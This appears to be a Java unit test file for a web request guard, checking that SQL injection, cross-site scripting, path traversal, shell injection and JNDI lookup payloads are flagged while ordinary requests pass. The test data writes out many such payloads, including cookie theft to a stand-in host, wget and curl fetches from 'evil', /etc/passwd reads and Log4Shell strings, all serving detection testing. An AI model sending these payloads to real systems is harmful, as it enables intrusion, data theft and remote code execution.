package dev.sluice.edge.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.EnumSet;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttackRulesTest {
  private static Set<AttackRule> look(String text) {
    Set<AttackRule> broken = EnumSet.noneOf(AttackRule.class);
    AttackRules.look(text, true, broken);
    return broken;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\u0001',
      value = {
        "/items?id=1%20UNION%20SELECT%20password%20FROM%20users~SQL",
        "/items?id=1+union+all+select+1,2,3~SQL",
        "/items?id=1/**/UNION/**/SELECT/**/1~SQL",
        "/items?id=-1%20uNiOn%0aSeLeCt%201~SQL",
        "/items?name=x'%20OR%20'1'='1~SQL",
        "/items?name=x'+or+1=1--~SQL",
        "/items?name=x%2527%2520or%25201%253d1~SQL",
        "/items?id=1;DROP%20TABLE%20users~SQL",
        "/items?id=1;%20delete%20from%20orders~SQL",
        "/items?id=1%20AND%201=1~SQL",
        "/items?id=1'%20AND%20SLEEP(5)~SQL",
        "/items?id=1;WAITFOR%20DELAY%20'0:0:5'~SQL",
        "/items?id=1;select%20pg_sleep(10)~SQL",
        "/items?id=(select%20table_name%20from%20information_schema.tables)~SQL",
        "/items?user=admin'--~SQL",
        "/items?q=%3Cscript%3Ealert(1)%3C/script%3E~XSS",
        "/items?q=<ScRiPt%20src=//evil>~XSS",
        "/items?q=%253Cscript%253E~XSS",
        "/items?q=<img%20src=x%20onerror=alert(1)>~XSS",
        "/items?q=<svg/onload=alert(1)>~XSS",
        "/items?q=\"onmouseover=\"alert(1)~XSS",
        "/items?next=javascript:alert(1)~XSS",
        "/items?q=<iframe%20src=//evil>~XSS",
        "/items?q=';fetch('//e/'+document.cookie)~XSS",
        "/files/../../etc/passwd~TRAVERSAL",
        "/files/..%2f..%2fetc%2fpasswd~TRAVERSAL",
        "/files/%2e%2e/%2e%2e/secret~TRAVERSAL",
        "/files/%252e%252e%252f%252e%252e%252f~TRAVERSAL",
        "/files/..%5c..%5cwindows~TRAVERSAL",
        "/files?name=/etc/shadow~TRAVERSAL",
        "/files?name=c:%5cwindows%5cwin.ini~TRAVERSAL",
        "/files?name=file:///etc/hosts~TRAVERSAL",
        "/.git/config~TRAVERSAL",
        "/.env~TRAVERSAL",
        "/files/..;/manager~TRAVERSAL",
        "/ping?host=a;cat%20/etc/hosts~SHELL",
        "/ping?host=a|cat+/etc/hosts~SHELL",
        "/ping?host=$(whoami)~SHELL",
        "/ping?host=`id`~SHELL",
        "/ping?host=a%26%26wget%20http://evil/x~SHELL",
        "/ping?host=a;curl%20http://evil/x~SHELL",
        "/cgi?x=()%20{%20:;};echo~SHELL",
        "/run?c=/bin/bash%20-i~SHELL",
        "/run?c=cmd.exe%20/c~SHELL",
        "/log?x=${jndi:ldap://evil/a}~JNDI",
        "/log?x=%24%7Bjndi%3Armi%3A%2F%2Fevil%7D~JNDI",
        "/log?x=${${lower:j}ndi:dns://evil}~JNDI",
        "/log?x=${${::-j}${::-n}di:x}~JNDI",
        "/log?x=${env:SECRET}~JNDI",
      })
  void finds(String target, AttackRule rule) {
    assertThat(look(target)).contains(rule);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/api/v1/orders/0190f3c2-7c1a-7000-8000-00000000000a?fields=id,total",
        "/people?name=O'Brien",
        "/people?name=O'Brien%20and%20D'Arcy",
        "/people?name=Drop%20Table%20Tennis",
        "/search?q=select%20a%20plan",
        "/search?q=how+to+select+from+a+menu",
        "/search?q=student%20union%20and%20select%20committee",
        "/search?q=1%3C2",
        "/search?q=1%3C2%20and%203%3E2",
        "/search?q=a+or+b",
        "/search?q=this+or+that+%3D+fine",
        "/search?q=script%20for%20a%20film",
        "/search?q=javascript:%20the%20good%20parts",
        "/search?q=what+is+an+onload+handler",
        "/search?q=cookie%20document",
        "/search?q=cat%20and%20dog;%20bird",
        "/search?q=id%20card",
        "/search?q=5%25+off",
        "/search?q=50%",
        "/search?q=C%2B%2B+%7C%7C+Java",
        "/search?q=R%26D+curl+pattern",
        "/search?q=sleep+(8+hours)",
        "/search?q=benchmark+(2026)",
        "/search?filter={\"price\":{\"lt\":5}}",
        "/search?filter=price%20lt%205%20or%20stock%20gt%203",
        "/blob?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "/blob?data=Li4vLi4vZXRjL3Bhc3N3ZA%3D%3D",
        "/token?jwt=eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "/files/a..b/c",
        "/files/report...pdf",
        "/files/v1.2..v1.3",
        "/environment",
        "/.well-known/jwks.json",
        "/.environment",
        "/go?url=https://example.com/etc/passport",
        "/go?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De",
        "/price?currency=$&amount={5}",
        "/mail?to=a%2Bb@example.com",
        "/math?e=x--",
        "/quote?text='tis%20the%20season",
        "/quote?text=rock%20'n'%20roll",
        "/user?name=%E4%BD%A0%E5%A5%BD",
        "/time?at=2026-11-21T15:57:37%2B01:00",
      })
  void leavesTheInnocentAlone(String target) {
    assertThat(look(target)).isEmpty();
  }

  @Test
  void aLongTextCostsNoMoreThanItsLength() {
    for (String piece : new String[] {"' or ", "union ", "../", "${", "/*", "<", "; ", "%25"}) {
      assertThat(look(piece.repeat(200_000))).isNotNull();
    }
  }

  @Test
  void anUnknownRuleIsNamed() {
    assertThatThrownBy(() -> AttackRule.of("sqli"))
        .hasMessage("one of [sql, xss, traversal, shell, jndi], not 'sqli'");
  }
}
